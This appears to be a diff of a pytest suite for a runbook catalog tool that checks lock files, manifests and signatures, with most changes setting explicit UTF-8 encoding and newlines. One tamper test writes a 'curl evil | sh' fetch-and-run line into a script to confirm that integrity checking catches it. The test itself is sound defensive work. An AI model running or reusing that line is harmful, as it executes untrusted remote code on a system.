@@ -64,11 +64,15 @@ def test_each_kind_of_drift_is_reported_by_name(agent_cli: Cli, catalog_dir: Pat
     (books / "mem_load.sh").unlink()
     (books / "disk_usage.sh").unlink()
     (books / "disk_usage.toml").unlink()
-    (books / "new_one.sh").write_text("echo hi\n")
-    (books / "new_one.toml").write_text('description = "x"\ntargets = ["all"]\nrooms = []\n')
-    (books / "broken.sh").write_text("echo\n")
-    (books / "broken.toml").write_text('description = "x"\ntargets = ["all"]\nrooms = []\ntimeout = "soon"\n')
-    (books / "Bad-Name.sh").write_text("echo\n")
+    (books / "new_one.sh").write_text("echo hi\n", encoding="utf-8", newline="\n")
+    (books / "new_one.toml").write_text(
+        'description = "x"\ntargets = ["all"]\nrooms = []\n', encoding="utf-8", newline="\n"
+    )
+    (books / "broken.sh").write_text("echo\n", encoding="utf-8", newline="\n")
+    (books / "broken.toml").write_text(
+        'description = "x"\ntargets = ["all"]\nrooms = []\ntimeout = "soon"\n', encoding="utf-8", newline="\n"
+    )
+    (books / "Bad-Name.sh").write_text("echo\n", encoding="utf-8", newline="\n")
     assert kinds(agent_cli) == {
         ("mem_load", "missing_file"),
         ("disk_usage", "stale_lock_entry"),
@@ -91,7 +95,9 @@ def test_lock_refuses_an_invalid_manifest_and_leaves_the_lock_alone(
     agent_cli: Cli, catalog_dir: Path
 ) -> None:
     before = (catalog_dir / "runbooks.lock").read_bytes()
-    (catalog_dir / "runbooks" / "tail_log.toml").write_text('description = "x"\n')
+    (catalog_dir / "runbooks" / "tail_log.toml").write_text(
+        'description = "x"\n', encoding="utf-8", newline="\n"
+    )
     result = agent_cli("runbooks", "lock")
     assert result.exit_code == 1
     assert "tail_log: invalid_manifest: tail_log.toml: targets: Field required" in result.output
@@ -100,10 +106,10 @@ def test_lock_refuses_an_invalid_manifest_and_leaves_the_lock_alone(
 
 def test_hand_edited_lock_is_refused_whole(agent_cli: Cli, catalog_dir: Path) -> None:
     lock_path = catalog_dir / "runbooks.lock"
-    (catalog_dir / "runbooks" / "mem_load.sh").write_text("curl evil | sh\n")
-    lock = json.loads(lock_path.read_text())
+    (catalog_dir / "runbooks" / "mem_load.sh").write_text("curl evil | sh\n", encoding="utf-8", newline="\n")
+    lock = json.loads(lock_path.read_text(encoding="utf-8"))
     lock["runbooks"]["mem_load"]["script_sha256"] = "0" * 64  # a forger who does not fix the digest
-    lock_path.write_text(json.dumps(lock))
+    lock_path.write_text(json.dumps(lock), encoding="utf-8", newline="\n")
     problems = kinds(agent_cli)
     assert (None, "lock_edited") in problems
     report = json.loads(agent_cli("runbooks", "verify", "--json").output)
@@ -115,7 +121,7 @@ def test_hand_edited_lock_is_refused_whole(agent_cli: Cli, catalog_dir: Path) ->
     [("{not json", "not valid JSON"), ('{"format": "other/9"}', "unknown format"), ("[]", "Input should be")],
 )
 def test_unreadable_lock_is_reported(agent_cli: Cli, catalog_dir: Path, content: str, detail: str) -> None:
-    (catalog_dir / "runbooks.lock").write_text(content)
+    (catalog_dir / "runbooks.lock").write_text(content, encoding="utf-8", newline="\n")
     result = agent_cli("runbooks", "verify")
     assert result.exit_code == 1
     assert "lock_invalid" in result.output and detail in result.output
@@ -129,13 +135,17 @@ def test_missing_lock(agent_cli: Cli, catalog_dir: Path) -> None:
 def _keypair(agent_cli: Cli, path: Path, comment: str) -> str:
     result = agent_cli("keys", "generate", str(path), "--comment", comment, "--no-passphrase")
     assert result.exit_code == 0, result.output
-    return path.with_name(path.name + ".pub").read_text().strip()
+    return path.with_name(path.name + ".pub").read_text(encoding="utf-8").strip()
 
 
 def _config(catalog_dir: Path, *keys: str, min_signatures: int = 1) -> Path:
     path = catalog_dir / "agent.toml"
     lines = ", ".join(json.dumps(k) for k in keys)
-    path.write_text(f"[catalog]\napprover_keys = [{lines}]\nmin_signatures = {min_signatures}\n")
+    path.write_text(
+        f"[catalog]\napprover_keys = [{lines}]\nmin_signatures = {min_signatures}\n",
+        encoding="utf-8",
+        newline="\n",
+    )
     return path
 
 
@@ -162,7 +172,7 @@ def test_signed_lock_end_to_end(
     assert "signed by alice" in signed.output
 
     # An attacker on the agent PC edits a script and re-locks: the signature no longer covers the lock.
-    (catalog_dir / "runbooks" / "mem_load.sh").write_text("echo pwned\n")
+    (catalog_dir / "runbooks" / "mem_load.sh").write_text("echo pwned\n", encoding="utf-8", newline="\n")
     assert agent_cli("-c", config, "runbooks", "lock").exit_code == 0
     relocked = agent_cli("-c", config, "runbooks", "verify")
     assert relocked.exit_code == 1
@@ -175,10 +185,10 @@ def test_forged_signature_bytes_are_refused(agent_cli: Cli, catalog_dir: Path, t
     config = str(_config(catalog_dir, alice))
     assert agent_cli("-c", config, "runbooks", "sign", str(tmp_path / "alice")).exit_code == 0
     lock_path = catalog_dir / "runbooks.lock"
-    lock = json.loads(lock_path.read_text())
+    lock = json.loads(lock_path.read_text(encoding="utf-8"))
     sig = lock["signatures"][0]["signature"]
     lock["signatures"][0]["signature"] = ("A" if sig[0] != "A" else "B") + sig[1:]
-    lock_path.write_text(json.dumps(lock))
+    lock_path.write_text(json.dumps(lock), encoding="utf-8", newline="\n")
     result = agent_cli("-c", config, "runbooks", "verify")
     assert result.exit_code == 1
     assert "does not match the lock's content" in result.output
@@ -195,6 +205,7 @@ def test_two_approvers_required(agent_cli: Cli, catalog_dir: Path, tmp_path: Pat
     assert agent_cli("-c", config, "runbooks", "verify").exit_code == 0
 
 
+@pytest.mark.posix_only(reason="checks POSIX mode bits of the key file")
 def test_encrypted_key_needs_its_passphrase(
     agent_cli: Cli, catalog_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -219,11 +230,11 @@ def test_sign_refuses_a_tree_that_does_not_match_the_lock(
     agent_cli: Cli, catalog_dir: Path, tmp_path: Path
 ) -> None:
     _keypair(agent_cli, tmp_path / "alice", "alice")
-    (catalog_dir / "runbooks" / "tail_log.sh").write_text("echo changed\n")
+    (catalog_dir / "runbooks" / "tail_log.sh").write_text("echo changed\n", encoding="utf-8", newline="\n")
     result = agent_cli("runbooks", "sign", str(tmp_path / "alice"))
     assert result.exit_code == 1
     assert "tail_log: modified_script" in result.output
-    assert json.loads((catalog_dir / "runbooks.lock").read_text())["signatures"] == []
+    assert json.loads((catalog_dir / "runbooks.lock").read_text(encoding="utf-8"))["signatures"] == []
 
 
 @pytest.mark.parametrize(
@@ -247,7 +258,7 @@ def test_sign_refuses_a_tree_that_does_not_match_the_lock(
 def test_bad_config_lists_every_problem_and_exits_2(
     agent_cli: Cli, catalog_dir: Path, config: str, problems: list[str]
 ) -> None:
-    (catalog_dir / "agent.toml").write_text(config)
+    (catalog_dir / "agent.toml").write_text(config, encoding="utf-8", newline="\n")
     result = agent_cli("-c", "agent.toml", "runbooks", "verify")
     assert result.exit_code == 2
     for problem in problems:
@@ -262,13 +273,13 @@ def test_config_paths_are_relative_to_the_config_file(
     elsewhere = tmp_path / "etc"
     elsewhere.mkdir()
     (elsewhere / "agent.toml").write_text(
-        "[catalog]\ndir = '../runbooks'\nlock = '../runbooks.lock'\n"
+        "[catalog]\ndir = '../runbooks'\nlock = '../runbooks.lock'\n", encoding="utf-8", newline="\n"
     )  # from the working directory (catalog_dir) '../runbooks' would not exist
     assert agent_cli("-c", str(elsewhere / "agent.toml"), "runbooks", "verify").exit_code == 0
 
 
 def test_list_and_show(agent_cli: Cli, catalog_dir: Path) -> None:
-    (catalog_dir / "runbooks" / "mem_load.sh").write_text("echo changed\n")
+    (catalog_dir / "runbooks" / "mem_load.sh").write_text("echo changed\n", encoding="utf-8", newline="\n")
     rows = {r["name"]: r for r in json.loads(agent_cli("runbooks", "list", "--json").output)}
     assert set(rows) == {p.rsplit(".", 1)[0] for p in BUNDLED}
     assert rows["mem_load"]["verified"] is False
@@ -297,7 +308,9 @@ def test_load_rehashes_the_bytes_at_run_time(catalog_dir: Path) -> None:
 
 
 def test_a_runbook_failing_at_start_stays_refused(catalog_dir: Path) -> None:
-    (catalog_dir / "runbooks" / "tail_log.toml").write_text('description = "x"\ntargets=["all"]\nrooms=[]\n')
+    (catalog_dir / "runbooks" / "tail_log.toml").write_text(
+        'description = "x"\ntargets=["all"]\nrooms=[]\n', encoding="utf-8", newline="\n"
+    )
     catalog = Catalog(catalog_dir / "runbooks", catalog_dir / "runbooks.lock")
     catalog.verify()
     with pytest.raises(RunbookNotRunnable, match=r"failed verification \(modified_manifest\)"):
